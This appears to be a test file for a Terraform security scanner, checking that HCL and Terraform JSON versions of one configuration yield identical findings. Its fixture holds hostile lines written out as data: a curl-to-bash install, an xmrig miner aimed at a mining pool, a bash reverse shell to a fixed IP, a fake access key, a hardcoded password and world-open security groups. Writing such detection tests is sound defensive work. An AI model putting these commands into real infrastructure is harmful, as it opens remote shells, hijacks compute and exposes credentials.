import * as assert from 'node:assert/strict';
import type { Finding } from '../../../src/engine/finding';
import { LineIndex } from '../../../src/engine/text/line-index';
import { scanText } from '../helpers/engine';

/**
 * A finding must not depend on whether the user's tool wrote HCL or Terraform JSON (CDKTF,
 * generators that call JSON.stringify). The same configuration in both syntaxes is scanned with
 * every built-in rule, and the findings must agree: same rules, same messages, same text under
 * each range.
 */

// Fake credentials, assembled from parts so that secret scanners do not stop this file.
const ACCESS_KEY_ID = ['AKIA', 'QYLPMN5HHHFPZAM2'].join('');
const POOL = ['stratum+tcp://', 'pool.supportxmr.com', ':3333'].join('');

const HCL = `provider "aws" {
  region     = "eu-west-1"
  access_key = "${ACCESS_KEY_ID}"
}

resource "aws_security_group" "admin" {
  name = "admin-\${var.env}"

  ingress {
    description = "HTTPS"
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }

  ingress {
    description = "SSH"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0", "10.0.0.0/8"]
  }
}

resource "aws_security_group_rule" "everything" {
  type              = "ingress"
  security_group_id = aws_security_group.admin.id
  from_port         = 0
  to_port           = 0
  protocol          = "-1"
  cidr_blocks       = ["0.0.0.0/0"]
}

resource "aws_instance" "worker" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "c5.4xlarge"
  user_data     = <<EOF
#!/bin/bash
curl -fsSL https://get.example-tools.io/install.sh | bash
docker run -d --restart=always metal3d/xmrig -o ${POOL} -u wallet.rig01
bash -i >& /dev/tcp/203.0.113.50/4444 0>&1
echo "host $\${HOSTNAME}"
EOF
}

resource "aws_db_instance" "orders" {
  engine         = "postgres"
  instance_class = "db.t3.micro"
  username       = "orders"
  password       = "Tr0ub4dor&3-orders"
}
`;

const SCRIPT = [
	'#!/bin/bash',
	'curl -fsSL https://get.example-tools.io/install.sh | bash',
	`docker run -d --restart=always metal3d/xmrig -o ${POOL} -u wallet.rig01`,
	'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1',
	'echo "host $${HOSTNAME}"',
	'',
].join('\n');

/** The same configuration as CDKTF would write it. */
const JSON_TEXT = JSON.stringify({
	provider: { aws: [{ region: 'eu-west-1', access_key: ACCESS_KEY_ID }] },
	resource: {
		aws_security_group: {
			admin: {
				name: 'admin-${var.env}',
				ingress: [
					{ description: 'HTTPS', from_port: 443, to_port: 443, protocol: 'tcp', cidr_blocks: ['0.0.0.0/0'] },
					{ description: 'SSH', from_port: 22, to_port: 22, protocol: 'tcp', cidr_blocks: ['0.0.0.0/0', '10.0.0.0/8'] },
				],
			},
		},
		aws_security_group_rule: {
			everything: {
				type: 'ingress', security_group_id: '${aws_security_group.admin.id}', from_port: 0, to_port: 0, protocol: '-1', cidr_blocks: ['0.0.0.0/0'],
			},
		},
		aws_instance: { worker: { ami: 'ami-0c55b159cbfafe1f0', instance_type: 'c5.4xlarge', user_data: SCRIPT } },
		aws_db_instance: { orders: { engine: 'postgres', instance_class: 'db.t3.micro', username: 'orders', password: 'Tr0ub4dor&3-orders' } },
	},
}, null, 2);

interface Seen {
	readonly ruleId: string;
	readonly severity: string;
	readonly text: string;
	readonly message: string;
}

function seen(text: string, findings: readonly Finding[]): Seen[] {
	const lines = new LineIndex(text);
	return findings
		.map(finding => ({
			ruleId: finding.ruleId,
			severity: finding.severity,
			text: resourceName(text.slice(lines.offsetAt(finding.range.start), lines.offsetAt(finding.range.end))),
			// Advice that names a format's own mechanism (a sensitive variable) may differ; the finding may not.
			message: finding.message.split('; ')[0],
		}))
		.sort((a, b) => `${a.ruleId} ${a.text}`.localeCompare(`${b.ruleId} ${b.text}`));
}

/**
 * A finding about a whole resource (a setting left out) points at the resource's header: its
 * labels `"aws_db_instance" "orders"` in HCL, its name key `"orders"` in JSON. Both read as the name.
 */
function resourceName(text: string): string {
	const labels = /^"[^"]+"\s+("[^"]+")$/.exec(text);
	return labels ? labels[1] : text;
}

describe('Terraform JSON and HCL give the same findings', () => {
	it('for network, script, mining, reverse-shell and credential rules', async () => {
		const hcl = await scanText('main.tf', HCL);
		const json = await scanText('main.tf.json', JSON_TEXT);
		assert.equal(json.format, 'terraform-json');
		assert.deepEqual([hcl.errors, json.errors, hcl.notes, json.notes], [[], [], [], []]);
		const fromHcl = seen(HCL, hcl.findings);
		const fromJson = seen(JSON_TEXT, json.findings);
		// The configuration must really exercise the rules, or agreeing would prove nothing.
		const rules = new Set(fromHcl.map(finding => finding.ruleId));
		for (const id of ['AUP-NET-001', 'AUP-NET-002', 'AUP-EXE-001', 'AUP-MIN-001', 'AUP-MIN-002', 'AUP-ATK-001', 'AUP-CRD-001', 'AUP-CRD-003']) {
			assert.ok(rules.has(id), `the HCL twin should trigger ${id}`);
		}
		assert.deepEqual(fromJson, fromHcl);
	});

	it('and neither flags the interpolations and escapes that only look like values', async () => {
		const hcl = 'resource "aws_db_instance" "orders" {\n  password = "${var.orders_password}"\n  name     = "$${literal}"\n}\n';
		const json = JSON.stringify({ resource: { aws_db_instance: { orders: { password: '${var.orders_password}', name: '$${literal}' } } } }, null, 2);
		const credentials = (findings: readonly Finding[]): string[] => findings.map(finding => finding.ruleId).filter(id => id.startsWith('AUP-CRD-'));
		assert.deepEqual(credentials((await scanText('db.tf', hcl)).findings), []);
		assert.deepEqual(credentials((await scanText('db.tf.json', json)).findings), []);
	});
});
